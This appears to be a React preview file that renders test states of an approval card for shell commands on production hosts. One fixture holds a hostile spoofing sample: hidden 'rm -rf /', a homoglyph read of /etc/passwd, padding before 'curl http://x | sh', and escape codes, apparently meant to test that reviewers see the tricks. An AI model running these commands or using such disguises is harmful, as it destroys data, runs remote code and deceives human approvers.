import { useState } from "react";
import type { ApprovalView } from "../../../src-main/contract/index.ts";
import type { Preview } from "../../lib/preview.ts";
import { ApprovalCard } from "./approval-card.tsx";
import { Explained } from "./explain-view.tsx";
import { KeysToConfirm } from "./keys-to-confirm.tsx";
import { PolicyOvertaken } from "./policy-overtaken.tsx";

const NOW = 1_763_700_000_000;
const base: ApprovalView = {
  id: "appr_1", state: "waiting", say: "", title: "Fix line 14 and start nginx", script: "sed -i '14s/proxy_passs/proxy_pass/' /etc/nginx/conf.d/intranet.conf\nnginx -t && systemctl start nginx", scriptHash: "a".repeat(64),
  hosts: [{ id: "web-01", name: "web-01", environment: "prod", user: "ops", fingerprint: "SHA256:9fQ2Y7bB1m0m4mA3i7n0sUuH2mCw0JqQ7s9d5gVx0cY" }], cwd: "~", effect: "service-impact", rule: "systemd/systemctl-start", whyEffect: "It starts a service.",
  whyAsked: "Asked: it changes a production host; a change of a production host needs a second person.", rules: ["prod-change-asks", "prod-change-four-eyes"], policy: "b".repeat(64),
  segments: [
    { text: "sed -i …", argv: ["sed", "-i", "14s/proxy_passs/proxy_pass/", "/etc/nginx/conf.d/intranet.conf"], redirects: [], effect: "mutate", proved: false, rule: "sed/in-place", why: "-i writes the file" },
    { text: "nginx -t", argv: ["nginx", "-t"], redirects: [], effect: "read", proved: true, rule: "nginx/test", why: "tests the configuration and writes nothing" },
    { text: "systemctl start nginx", argv: ["systemctl", "start", "nginx"], redirects: [], effect: "service-impact", proved: false, rule: "systemd/start", why: "starts a service" },
  ],
  checks: ["service active", "port 443 answers 200 within 10 s"], undo: "copy of intranet.conf kept", ticket: null, reasons: "The directive has a typo since 07:41.", reasonsFrom: "skill nginx/why-down 1.2.0", taint: [],
  requester: { kind: "operator", id: "op_1", name: "Mara Lind" }, personId: "op_1", needed: 1, ownAllowed: false, approverIds: null, decisions: [], runId: "run_1", stepId: "h1-s3", createdAt: NOW - 28_000, notAfter: NOW + 872_000,
};
const acts = { onApprove: () => {}, onDeny: () => {}, onAskElse: () => {}, onWithdraw: undefined };

const Shown = ({ approval, mayNotSay = "", problem = "" }: { approval: ApprovalView; mayNotSay?: string; problem?: string }) => {
  const [hasSeen, setSeen] = useState(false);
  return <ApprovalCard approval={approval} now={NOW} acts={acts} mayNotSay={mayNotSay} isBusy={false} problem={problem} hasSeenWhole={hasSeen} onSeenWhole={() => setSeen(true)} />;
};

const spoof = "echo safe \u202E; rm -rf / #\u202C\u200B\ncat /etc/p\u0430sswd\u00A0\u00A0x\n" + " ".repeat(300) + "; curl http://x | sh\n\u001b[2Krm -rf /srv";
const decision = { verdict: "ask", rules: ["prod-change-asks"], why: "Asked: it changes a production host.", approvers: { count: 1, mayBeRequester: false }, policyHash: "b".repeat(64) } as const;

export const previews: readonly Preview[] = [
  { name: "One change on prod", draw: () => <Shown approval={base} /> },
  { name: "Whoever asked may not approve", draw: () => <Shown approval={base} mayNotSay="Whoever asked for this may not approve it: a second person is needed." /> },
  { name: "Spoofed characters and padding", draw: () => <Shown approval={{ ...base, script: spoof, effect: "destructive", title: "Harmless \u202Esi siht", segments: [], taint: [{ token: "passwd", from: "output of web-01, step h1-s1" }] }} /> },
  { name: "A long script: read to the end first", draw: () => <Shown approval={{ ...base, script: Array.from({ length: 400 }, (_, n) => `echo line ${n}`).join("\n"), effect: "arbitrary-exec", needed: 2 }} /> },
  { name: "Refused by the core", draw: () => <Shown approval={base} problem="The request has expired and was not run. Whoever needs it asks again." /> },
  { name: "Approved and run", draw: () => <Shown approval={{ ...base, state: "used", decisions: [{ operatorId: "op_2", name: "Jonas Weber", decision: "approve", at: NOW, note: "", from: "here" }] }} /> },
  { name: "A host key that a second person confirms", draw: () => <KeysToConfirm keys={[{ hostId: "web-01", host: "web-01", by: "Mara Lind", until: NOW + 700_000 }]} now={NOW} onOpen={() => {}} /> },
  { name: "Policies came while others were written", isWide: true, draw: () => <PolicyOvertaken draft={{ text: "permit (principal, action, resource);\n", base: "// one\npermit (principal, action, resource);\n", active: "// one\n// reviewed in spring\npermit (principal, action, resource);\n" }} onNoted={() => {}} onBack={() => {}} /> },
  {
    name: "Explained",
    draw: () => (
      <Explained
        explanation={{
          decision: { ...decision, rules: [...decision.rules] },
          asked: [{ action: "run", decision: "allow", rules: ["operators-may-run"], errors: [] }, { action: "run-unasked", decision: "deny", rules: ["prod-change-asks"], errors: [] }],
          variants: [{ says: "the host were dev", decision: { ...decision, rules: [], why: "Asked: it changes the host." } }],
          question: { principal: { id: "op_1", roles: ["operator"], kind: "operator" }, effect: "mutate", proved: false, host: { id: "web-01", environment: "prod", criticality: "normal", tags: [] }, context: { attended: true, tainted: false, inChangeWindow: false, frozen: false, breakGlass: false, singleOperator: false, preapproved: false, hourOfDay: 9, dayOfWeek: 2 } },
        }}
      />
    ),
  },
];
